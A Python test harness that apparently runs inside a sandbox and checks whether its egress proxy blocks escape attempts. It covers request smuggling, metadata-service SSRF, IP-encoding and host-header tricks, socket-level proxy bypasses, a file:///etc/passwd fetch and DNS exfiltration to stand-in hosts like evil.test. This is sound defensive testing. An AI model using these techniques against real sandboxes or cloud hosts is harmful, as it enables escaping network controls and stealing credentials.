"""What code with a network tries: each function returns what it got, or raises. Sent into the sandbox as source."""

import ctypes
import http.client
import json
import socket
import ssl
import struct
import sys
import urllib.request

PROXY = ("127.0.0.1", 3128)
EVIL, METADATA = "1.2.3.4", "169.254.169.254"
CA = sys.argv[1]


def get(url, **headers):
    request = urllib.request.Request(url, headers=headers)
    with urllib.request.urlopen(request, timeout=10, context=ssl.create_default_context(cadata=CA)) as answer:
        return answer.read().decode()


def asked(text):
    """The proxy's answer to raw bytes."""
    with socket.create_connection(PROXY, 10) as one:
        one.sendall(text.encode())
        one.shutdown(socket.SHUT_WR)
        data = b""
        while part := one.recv(65536):
            data += part
    return data.decode()


def through(text):
    """As `asked`, for what must not be answered with a 200."""
    answer = asked(text)
    if not answer.startswith("HTTP/1.1 200"):
        raise OSError(answer.splitlines()[0] if answer else "closed")
    return answer


def tunnel(place):
    return through(f"CONNECT {place} HTTP/1.1\r\nHost: {place}\r\n\r\n")


def direct(host, port, family=socket.AF_INET):
    with socket.socket(family) as one:
        one.settimeout(3)
        one.connect((host, port))
        one.sendall(b"direct")
        return one.recv(100).decode() or "connected"


def datagram(host, port):
    with socket.socket(type=socket.SOCK_DGRAM) as one:
        one.sendto(b"datagram", (host, port))
    return "sent"


def fast_open():
    with socket.socket() as one:
        one.sendto(b"fast", 0x20000000, (EVIL, 443))
        return one.recv(100).decode() or "connected"


def fast_open_after_the_end():
    with socket.create_connection(PROXY, 5) as one:
        one.shutdown(socket.SHUT_RDWR)
        one.sendto(b"fast", 0x20000000, (EVIL, 443))
    return "sent"


def connected_anew():
    """A socket is let go with AF_UNSPEC, and led elsewhere."""
    libc = ctypes.CDLL(None, use_errno=True)
    with socket.create_connection(PROXY, 5) as one:
        libc.connect(one.fileno(), struct.pack("=H14x", 0), 16)
        one.connect((EVIL, 443))
        one.sendall(b"anew")
        return one.recv(100).decode() or "connected"


def peers_handle():
    with socket.create_connection(PROXY, 5) as one:
        return str(struct.unpack("i", one.getsockopt(socket.SOL_SOCKET, 77, 4)))


def raw():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close()
    return "made"


def listening():
    with socket.socket() as one:
        one.bind(("0.0.0.0", 0))
        one.listen()
    return "listens"


def smuggled():
    return through(
        "GET http://api.example.com/first HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n"
        "GET http://api.example.com/second HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    )


A = "GET http://api.example.com/a HTTP/1.1\r\n"
ATTEMPTS = {
    # what must work
    "allowed_https": lambda: get("https://api.example.com/a"),
    "allowed_http": lambda: get("http://api.example.com/a?x=1"),
    "allowed_below": lambda: get("https://www.example.org/b"),
    "allowed_post": lambda: urllib.request.urlopen("http://api.example.com/p", data=b"n=1", timeout=10).read().decode(),
    "allowed_upper_case": lambda: tunnel("API.EXAMPLE.COM:443")[:12],
    "many_at_once": lambda: str(len([socket.create_connection(PROXY, 5) for _ in range(20)])),
    "host_header": lambda: get("http://api.example.com/host", Host="evil.test"),
    "smuggled": smuggled,
    # what must not
    "other_domain": lambda: get("https://evil.test/"),
    "other_domain_http": lambda: get("http://evil.test/"),
    "longer_name": lambda: get("https://api.example.com.evil.test/"),
    "longer_prefix": lambda: get("https://evilapi.example.com/"),
    "http_where_https": lambda: get("http://www.example.org/"),
    "user_information": lambda: tunnel("api.example.com@evil.test:443"),
    "trailing": lambda: tunnel("api.example.com:443:443"),
    "no_port": lambda: tunnel("api.example.com"),
    "nul": lambda: tunnel("evil.test\0.api.example.com:443"),
    "address": lambda: get(f"https://{EVIL}/"),
    "address_as_number": lambda: tunnel("16909060:443"),
    "address_octal": lambda: tunnel("01.02.03.04:443"),
    "metadata": lambda: get(f"http://{METADATA}/latest"),
    "metadata_tunnel": lambda: tunnel(f"{METADATA}:80"),
    "metadata_by_name": lambda: get("https://meta.example.com/"),
    "private_by_name": lambda: get("https://inner.example.com/"),
    "rebinding": lambda: get("https://moving.example.com/"),
    "six_by_name": lambda: get("https://six.example.com/"),
    "other_port": lambda: tunnel("api.example.com:8443"),
    "other_port_http": lambda: get("http://api.example.com:8443/"),
    "ipv6": lambda: get("http://[::1]:9090/"),
    "ipv6_mapped": lambda: tunnel(f"[::ffff:{EVIL}]:443"),
    "redirect_out": lambda: get("http://api.example.com/leave"),
    "redirect_to_metadata": lambda: get("http://api.example.com/metadata"),
    "loopback": lambda: get("http://127.0.0.1:9090/"),
    "no_proxy_words": lambda: through("GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
    "file_scheme": lambda: through("GET file:///etc/passwd HTTP/1.1\r\n\r\n"),
    "two_lengths": lambda: through(f"{A}Content-Length: 1\r\nContent-Length: 30\r\n\r\nx"),
    "chunked": lambda: through(f"{A}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
    "folded_header": lambda: through(f"{A}X: a\r\n b\r\n\r\n"),
    "bare_line_feed": lambda: through("GET http://api.example.com/a HTTP/1.1\nHost: evil.test\r\n\r\n"),
    "trace": lambda: through("TRACE http://api.example.com/a HTTP/1.1\r\n\r\n"),
    "huge_head": lambda: through("GET http://api.example.com/a HTTP/1.1\r\nX: " + "x" * 200_000 + "\r\n\r\n"),
    "direct": lambda: direct(EVIL, 443),
    "direct_to_the_proxys_port": lambda: direct(EVIL, 3128),
    "direct_to_an_allowed_address": lambda: direct("93.184.216.34", 443),
    "direct_loopback": lambda: direct("127.0.0.1", 9090),
    "direct_metadata": lambda: direct(METADATA, 80),
    "direct_ipv6": lambda: direct("::1", 9090, socket.AF_INET6),
    "direct_ipv6_mapped": lambda: direct(f"::ffff:{EVIL}", 443, socket.AF_INET6),
    "fast_open": fast_open,
    "fast_open_after_the_end": fast_open_after_the_end,
    "connected_anew": connected_anew,
    "peers_handle": peers_handle,
    "udp": lambda: datagram(EVIL, 53),
    "udp_dns": lambda: datagram("127.0.0.1", 53),
    "resolver": lambda: str(socket.getaddrinfo("secret.evil.test", 443)),
    "raw": raw,
    "listening": listening,
}
for name, attempt in ATTEMPTS.items():
    try:
        row = {"name": name, "got": attempt()[:300]}
    except (OSError, ValueError, http.client.HTTPException) as error:
        row = {"name": name, "refused": f"{type(error).__name__}: {error}"[:300]}
    sys.stdout.write(json.dumps(row) + "\n")
